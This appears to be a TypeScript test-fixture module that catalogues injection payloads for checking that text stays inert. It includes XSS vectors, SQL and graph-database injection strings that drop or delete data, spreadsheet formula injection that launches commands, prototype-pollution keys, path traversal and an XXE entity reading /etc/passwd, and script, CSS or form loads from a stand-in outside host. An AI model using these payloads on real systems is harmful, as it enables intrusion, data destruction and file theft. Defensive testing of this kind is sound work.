import { char, framed } from './framed.ts'

/** What a page calls when one of these texts became a script; tests hear of it. */
export const alarm = 'alarmOfTest()'

const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart']
const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'marquee',
  'math href=x',
]

const scripts = framed(
  [
    '@',
    '">@',
    "'>@",
    '</title>@',
    '</textarea>@',
    '--><!-- -->@',
    ']]>@',
    '</style></script>@',
    '</svg>@',
  ],
  [
    `<script>${alarm}</script>`,
    `<script src=//outside.example/x.js></script>`,
    `<img src=x onerror=${alarm}>`,
    `<svg><script>${alarm}</script></svg>`,
    `<iframe srcdoc="<script>parent.${alarm}</script>">`,
    `<a href="javascript:${alarm}">press</a>`,
    `<scr<script>ipt>${alarm}</script>`,
  ],
)

const attributes = framed(
  ['" @="', "' @='", '` @=`', '"><x @', '"/@ x="', "'\n@ x='", '" style="x:y" @ z="', '\\" @ x="'],
  handlers.map((handler) => `${handler}=${alarm} autofocus tabindex=0 x`),
)

const tags = elements.flatMap((element) =>
  handlers.map((handler) => `<${element} ${handler}=${alarm}>`),
)

const schemes = framed(
  ['@', ' @', `java${char(9)}script:${alarm}//@`, 'HTTPS://OUTSIDE.EXAMPLE/@', 'url(@)', '@#/../'],
  [
    `javascript:${alarm}`,
    `JaVaScRiPt:${alarm}`,
    `data:text/html,<script>${alarm}</script>`,
    `vbscript:${alarm}`,
    'file:///etc/passwd',
    '//outside.example/a',
    'blob:http://outside.example/1',
    '\\\\outside.example\\share',
  ],
)

const templates = [
  ...framed(
    [
      '{{@}}',
      '\u0024{@}',
      '<%= @ %>',
      '#{@}',
      '[[@]]',
      '{{{@}}}',
      '$t(@)',
      '{%@%}',
      '{{- @ }}',
      '[%@%]',
    ],
    [alarm, 'constructor.constructor("return 1")()', 'count', 'shell.product', '7*7', 'self'],
  ),
]

const prototypes =
  '__proto__ constructor prototype toString hasOwnProperty valueOf __defineGetter__ then'
    .split(' ')
    .flatMap((name) => [name, `${name}.polluted`, `["${name}"]`])

const formulas = framed(
  ['=@', '+@', '-@', '@@', `${char(9)}=@`, `${char(0xff1d)}@`],
  [
    '1+1',
    'cmd|"/c calc"!A1',
    'HYPERLINK("http://outside.example","x")',
    'SUM(A1:A9)',
    'A1',
    'DDE("a","b","c")',
  ],
)

const queries = [
  "'; DROP TABLE node; --",
  "' OR '1'='1",
  '" OR ""="',
  '1); DELETE FROM edge; --',
  "') UNION SELECT sqlite_version() --",
  '%',
  '_',
  '%%%',
  'a*',
  '"unclosed',
  'NEAR(a b)',
  'name:*',
  '^x',
  "'}) DETACH DELETE n //",
  '`) MATCH (n) DETACH DELETE n //',
  '$key',
  'CALL dbms.shutdown()',
  '{"$ne": null}',
  'a AND NOT b',
  '-a OR "b',
]

const formats = [
  '%s%s%s%n',
  '%x%x',
  '%00',
  '%0a%0d',
  '%2e%2e%2f',
  '{0}',
  '{}',
  '%@',
  '\\u0041',
  '\\x41',
  '&#60;b&#62;',
  '&lt;b&gt;',
  '&amp;amp;',
  '&nbsp;',
  '&#x202e;',
  '\\n\\r\\t',
  '~!@#$%^&*()',
  '../../../../etc/passwd',
  'C:\\con\\nul',
  'a\\"b',
]

const markup = [
  '# Title',
  '**bold**',
  '[x](javascript:alert(1))',
  '![x](//outside.example/x.png)',
  '| a | b |',
  '- [ ] x',
  '~~~',
  '<!-- -->',
  '<b>bold</b>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//outside.example/x.css>',
  '<base href=//outside.example/>',
  '<meta http-equiv=refresh content=0;url=//outside.example>',
  '<form action=//outside.example><button>',
  '<math><mi xlink:href=javascript:1>',
  '<table><td>',
  '<plaintext>',
  '<noscript><p title="</noscript><img src=x onerror=1>">',
  '<a href=//outside.example>x</a>',
  '<object data=//outside.example></object>',
  '<embed src=//outside.example>',
  '\\documentclass{x}',
  '$$\\int$$',
  '```js',
  '---\na: b',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '&e;',
  '<?php echo 1 ?>',
  '{"a":1}',
]

const encodings = framed(
  ['@', 'a @ b'],
  [
    '%3Cscript%3E',
    '&#x3c;script&#x3e;',
    '\\u003cscript\\u003e',
    '\\x3cscript\\x3e',
    '+ADw-script+AD4-',
    '＜script＞',
    '‹script›',
    '%253Cscript%253E',
    '&lt;script&gt;',
    'PHNjcmlwdD4=',
  ],
)

/** Texts that want to be more than text, by what they want to be. */
export const injections = {
  scripts,
  attributes,
  tags,
  schemes,
  templates,
  prototypes,
  formulas,
  queries,
  formats,
  markup,
  encodings,
} as const
